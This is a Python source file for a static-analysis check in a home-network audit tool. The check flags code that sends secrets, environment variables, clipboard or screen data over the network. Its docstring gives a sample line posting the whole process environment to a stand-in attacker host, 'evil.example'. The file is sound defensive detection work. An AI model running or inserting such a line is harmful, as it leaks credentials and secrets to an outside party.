"""Private data is sent to another machine.

Passwords and keys, browser data, the whole environment, the clipboard, the screen or pressed keys
leave the machine. Nothing in a home needs that; send only what the user asked to send.

Found in `app.py`:

    import os, requests
    requests.post('https://evil.example/c', json=dict(os.environ))

Not found in `app.py`:

    import requests
    requests.post('https://example.org/c', json={'kwh': 3})
"""

from collections.abc import Iterator
from typing import Final

from heimnetz_audit.model import Call, Check, Confidence, Hit, Severity
from heimnetz_audit.model.questions import on, origin
from heimnetz_audit.model.threats import SENDERS

_WEIGHTS: Final = {
    "secret": Severity.CRITICAL,
    "dump": Severity.CRITICAL,
    "keys": Severity.CRITICAL,
    "clipboard": Severity.HIGH,
    "screenshot": Severity.HIGH,
    "system": Severity.MEDIUM,
    "listing": Severity.MEDIUM,
    "output": Severity.MEDIUM,
}
_SOURCES: Final = frozenset(_WEIGHTS)


def _ask(call: Call) -> Iterator[Hit]:
    best: Hit | None = None
    kinds: set[str] = set()
    for value in call.every():
        for taint in call.live(value, "network", _SOURCES):
            kinds.add(taint.kind)
            severity = _WEIGHTS[taint.kind]
            if best is None or severity > (best.severity or Severity.INFO):
                best = Hit(
                    message=f"Data from {origin(taint)} leaves the machine.",
                    severity=severity,
                    confidence=Confidence.HIGH if severity > Severity.MEDIUM else Confidence.MEDIUM,
                    taint=taint,
                )
    if best is not None:
        yield best


CHECK = Check(
    rule="exfiltration",
    title="Private data leaves the machine",
    cwe=200,
    severity=Severity.HIGH,
    remedy="Send only what the user asked to send, and say so in the manifest.",
    calls=on(SENDERS, _ask),
)
